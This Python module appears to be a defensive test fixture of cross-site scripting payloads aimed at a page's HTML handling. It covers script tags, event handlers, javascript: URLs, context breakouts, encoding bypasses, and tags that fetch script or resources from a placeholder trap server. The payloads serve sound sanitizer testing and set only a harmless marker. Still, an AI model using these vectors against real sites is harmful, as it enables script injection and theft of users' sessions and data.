"""What people write who want a page of ours to run their code or to fetch something of theirs; `{trap}` is where their own server listens.

Collected by what they abuse: elements, handlers, addresses, places to break out of, spellings that get past filters,
and what asks a server without any script. Each that runs sets `window.__p`.
"""

RUN = "window.__p=1"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script>",
    f"<script\t>{RUN}</script >",
    f"<script nonce>{RUN}</script>",
    f"<script nonce=guess>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script type=text/javascript defer>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script>window&#46;__p=1</script></svg>",
    f"<math><script>{RUN}</script></math>",
    f"<script src=data:text/javascript,{RUN}></script>",
    "<script src={trap}/a.js></script>",
    "<script type=module>import '{trap}/a.js'</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "<iframe src={trap}/frame></iframe>",
    "<object data={trap}/object></object>",
    "<embed src={trap}/embed>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img/src/onerror={RUN}>",
    f"<img src=x oNeRrOr={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<style onload={RUN}></style>",
    f"<b onmouseover={RUN}>x</b>",
    f"<x tabindex=1 onfocus={RUN}>x</x>",
    f"<div onpointerover={RUN} onmouseover={RUN}>x</div>",
    f"<button popovertarget=pop>x</button><div popover id=pop onbeforetoggle={RUN}>x</div>",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>opener.{RUN}</script>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='java&Tab;script:{RUN}'>x</a>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><a><set attributeName=href to='javascript:{RUN}'/><text>x</text></a></svg>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<button form=f formaction='javascript:{RUN}'>x</button><form id=f></form>",
    f"<math><mi href='javascript:{RUN}'>x</mi></math>",
)
ESCAPES = (
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f'" onmouseover="{RUN}" x="',
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
)
SPELLINGS = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<\u200bscript>{RUN}</script>",
    f"\u202e<script>{RUN}</script>",
    "{{7*7}}{% for x in (1,) %}x{% endfor %}",
    "${window.__p=1}`${window.__p=1}`",
)
FETCHES = (
    "<img src={trap}/img>",
    "<img srcset='{trap}/set 1x'>",
    "<img src='{trap}/dangling?",
    "<video poster={trap}/poster src={trap}/video></video>",
    "<audio src={trap}/audio autoplay></audio>",
    "<input type=image src={trap}/input>",
    "<link rel=stylesheet href={trap}/a.css>",
    "<link rel=preload as=script href={trap}/preload.js>",
    "<link rel=prefetch href={trap}/prefetch>",
    "<link rel=modulepreload href={trap}/module.js>",
    "<link rel=manifest href={trap}/manifest>",
    "<style>@import '{trap}/b.css';</style>",
    "<div style='background:url({trap}/style)'>x</div>",
    "<style>*{background:url({trap}/css)}</style>",
    "<svg><image href={trap}/svg></image><use href={trap}/use#x></use></svg>",
    "<base href={trap}/>",
    "<body background={trap}/body>",
    "<form action={trap}/form method=post><button autofocus>x</button></form>",
)
PAYLOADS = (*ELEMENTS, *HANDLERS, *ADDRESSES, *ESCAPES, *SPELLINGS, *FETCHES)


def payloads(trap: str) -> list[str]:
    """Return everything, with the address of the server that must never be asked."""
    return [text.replace("{trap}", trap) for text in PAYLOADS]


def in_groups(texts: list[str], size: int) -> list[str]:
    """Return the texts joined, so many in one, each on a line of its own."""
    return ["\n".join(texts[start : start + size]) for start in range(0, len(texts), size)]
